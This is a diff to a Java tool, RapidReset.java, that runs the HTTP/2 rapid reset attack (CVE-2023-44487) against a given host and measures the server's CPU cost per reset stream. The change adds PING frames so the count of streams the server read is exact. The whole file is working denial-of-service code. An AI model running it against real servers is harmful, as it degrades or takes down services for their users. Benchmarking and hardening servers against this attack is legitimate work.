@@ -23,8 +23,8 @@ import javax.net.ssl.X509TrustManager;
  * The HTTP/2 rapid reset attack (CVE-2023-44487), measured: connections over TLS that each open streams
  * with a HEADERS frame and cancel them at once with RST_STREAM, as fast as the server reads, until the server
  * ends the connection or STREAMS streams were sent. The CPU time the server process spent meanwhile (from
- * /proc/PID/stat) divided by the streams it opened (the last stream id of its GOAWAY, else all sent) is the
- * price of one reset stream.
+ * /proc/PID/stat) divided by the streams it read before it ended the connections is the price of one reset
+ * stream to the server.
  *
  * <pre>java RapidReset.java HOST PORT PID CONNECTIONS STREAMS PARALLEL WARMUP_CONNECTIONS</pre>
  */
@@ -32,13 +32,14 @@ public final class RapidReset {
 
   static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
   static final int DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, GOAWAY = 7;
-  static final int BATCH = 32;
+  static final int BATCH = 50;
 
-  /** What one connection saw: streams written, the server's GOAWAY (last stream id, error), -1 if none. */
-  record Outcome(int streamsSent, int goawayLastStream, int goawayError) {
-    int streamsOpened() {
-      return goawayLastStream >= 0 ? (goawayLastStream + 1) / 2 : streamsSent;
-    }
+  /**
+   * What one connection saw: streams written, streams the server read (acknowledged by a PING), streams it
+   * opened (up to the last stream id of its GOAWAY; all read ones without GOAWAY), and the GOAWAY's error code
+   * (-1 without GOAWAY).
+   */
+  record Outcome(int streamsSent, int streamsRead, int streamsOpened, int goawayError) {
   }
 
   public static void main(String[] args) throws Exception {
@@ -53,25 +54,29 @@ public final class RapidReset {
     byte[] block = headerBlock(host + ":" + port);
 
     run(tls, host, port, block, warmup, streams, parallel);
+    if (connections == 0) {
+      return;
+    }
     long cpuBefore = cpuTicks(pid);
     long started = System.nanoTime();
     List<Outcome> outcomes = run(tls, host, port, block, connections, streams, parallel);
     long wallNanos = System.nanoTime() - started;
     long cpuTicks = cpuTicks(pid) - cpuBefore;
 
-    long opened = 0, sent = 0;
+    long opened = 0, read = 0, sent = 0;
     Map<String, Integer> endings = new TreeMap<>();
     for (Outcome o : outcomes) {
       opened += o.streamsOpened();
       sent += o.streamsSent();
+      read += o.streamsRead();
       endings.merge(o.goawayError() < 0 ? "no GOAWAY" : "GOAWAY " + errorName(o.goawayError()), 1, Integer::sum);
     }
     double cpuMicros = cpuTicks * 1e6 / hz();
-    System.out.printf("connections %d, streams sent %d, opened by the server %d (%.0f per connection), endings %s%n",
-        outcomes.size(), sent, opened, (double) opened / outcomes.size(), endings);
-    System.out.printf("server CPU %.0f ms in %.1f s: %.1f us per opened stream, %.1f us per sent stream, "
+    System.out.printf("connections %d, streams sent %d, read by the server %d, opened %d (%.0f per connection), "
+        + "endings %s%n", outcomes.size(), sent, read, opened, (double) opened / outcomes.size(), endings);
+    System.out.printf("server CPU %.0f ms in %.1f s: %.1f us per opened stream, %.1f us per stream read, "
         + "%.0f us per connection%n", cpuMicros / 1000, wallNanos / 1e9, cpuMicros / Math.max(1, opened),
-        cpuMicros / Math.max(1, sent), cpuMicros / outcomes.size());
+        cpuMicros / Math.max(1, read), cpuMicros / outcomes.size());
     System.out.printf("RESULT us_per_reset_stream=%.1f streams_per_connection=%.0f%n",
         cpuMicros / Math.max(1, opened), (double) opened / outcomes.size());
   }
@@ -94,7 +99,20 @@ public final class RapidReset {
     }
   }
 
-  /** One connection: HEADERS + RST_STREAM pairs in batches until the server ends it or all are sent. */
+  /** What the reader thread learned from the server: PING acknowledgements, GOAWAY, the end. */
+  static final class ServerSide {
+    long pingsAcked;
+    int goawayLastStream = -1;
+    int goawayError = -1;
+    boolean closed;
+  }
+
+  /**
+   * One connection: batches of HEADERS + RST_STREAM pairs, each batch followed by a PING whose acknowledgement
+   * proves the server has read the whole batch, until the server ends the connection or all streams are sent.
+   * Waiting for the acknowledgement keeps the count exact: streams still in socket buffers when the server
+   * closes are never read, and would otherwise be counted.
+   */
   static Outcome attack(SSLContext tls, String host, int port, byte[] block, int streams) throws Exception {
     try (SSLSocket s = (SSLSocket) tls.getSocketFactory().createSocket()) {
       s.connect(new InetSocketAddress(host, port), 5000);
@@ -107,16 +125,17 @@ public final class RapidReset {
         throw new IllegalStateException("the server did not choose h2 by ALPN");
       }
       OutputStream out = s.getOutputStream();
-      int[] goaway = {-1, -1};
-      Thread reader = new Thread(() -> readUntilClosed(s, out, goaway));
-      reader.setDaemon(true);
-      reader.start();
+      ServerSide server = new ServerSide();
       out.write(PREFACE);
       out.write(frame(SETTINGS, 0, 0, new byte[0]));
-      byte[] batch = new byte[BATCH * (9 + block.length + 9 + 4)];
+      Thread reader = new Thread(() -> readUntilClosed(s, out, server));
+      reader.setDaemon(true);
+      reader.start();
+      byte[] batch = new byte[BATCH * (9 + block.length + 9 + 4) + 9 + 8];
       int sent = 0;
+      int acked = 0;
       try {
-        while (sent < streams) {
+        for (long ping = 1; sent < streams; ping++) {
           int n = Math.min(BATCH, streams - sent);
           int at = 0;
           for (int i = 0; i < n; i++) {
@@ -124,29 +143,38 @@ public final class RapidReset {
             at = put(batch, at, HEADERS, 0x4 | 0x1, id, block);
             at = put(batch, at, RST_STREAM, 0, id, new byte[] {0, 0, 0, 8}); // CANCEL
           }
+          at = put(batch, at, PING, 0, 0, longBytes(ping));
           synchronized (out) {
             out.write(batch, 0, at);
           }
           sent += n;
-          synchronized (goaway) {
-            if (goaway[0] >= 0) {
+          synchronized (server) {
+            while (server.pingsAcked < ping && !server.closed) {
+              server.wait(10_000);
+            }
+            if (server.pingsAcked < ping) {
               break;
             }
           }
+          acked = sent;
         }
         s.shutdownOutput();
       } catch (IOException | UnsupportedOperationException e) {
         // the server ended the connection
       }
       reader.join(10_000);
-      synchronized (goaway) {
-        return new Outcome(sent, goaway[0], goaway[1]);
+      synchronized (server) {
+        int opened = acked;
+        if (server.goawayLastStream >= 0 && server.goawayLastStream != Integer.MAX_VALUE) {
+          opened = (server.goawayLastStream + 1) / 2;
+        }
+        return new Outcome(sent, Math.max(acked, opened), opened, server.goawayError);
       }
     }
   }
 
-  /** Reads frames until the server closes; acknowledges SETTINGS and records GOAWAY. */
-  static void readUntilClosed(SSLSocket s, OutputStream out, int[] goaway) {
+  /** Reads frames until the server closes; acknowledges SETTINGS, counts PING acknowledgements, keeps GOAWAY. */
+  static void readUntilClosed(SSLSocket s, OutputStream out, ServerSide server) {
     try {
       DataInputStream in = new DataInputStream(s.getInputStream());
       while (true) {
@@ -159,18 +187,31 @@ public final class RapidReset {
           synchronized (out) {
             out.write(frame(SETTINGS, 1, 0, new byte[0]));
           }
+        } else if (type == PING && (flags & 1) == 1) {
+          synchronized (server) {
+            server.pingsAcked = java.nio.ByteBuffer.wrap(payload).getLong();
+            server.notifyAll();
+          }
         } else if (type == GOAWAY && length >= 8) {
-          synchronized (goaway) {
-            goaway[0] = ((payload[0] & 0x7f) << 24) | ((payload[1] & 0xff) << 16) | ((payload[2] & 0xff) << 8)
-                | (payload[3] & 0xff);
-            goaway[1] = ((payload[4] & 0xff) << 24) | ((payload[5] & 0xff) << 16) | ((payload[6] & 0xff) << 8)
-                | (payload[7] & 0xff);
+          java.nio.ByteBuffer b = java.nio.ByteBuffer.wrap(payload);
+          synchronized (server) {
+            server.goawayLastStream = b.getInt() & 0x7fffffff;
+            server.goawayError = b.getInt();
           }
         }
       }
     } catch (IOException e) {
       // closed
+    } finally {
+      synchronized (server) {
+        server.closed = true;
+        server.notifyAll();
+      }
     }
+  }
+
+  static byte[] longBytes(long v) {
+    return java.nio.ByteBuffer.allocate(8).putLong(v).array();
   }
 
   /** GET / with :authority, in HPACK without the dynamic table: the same bytes on every stream. */
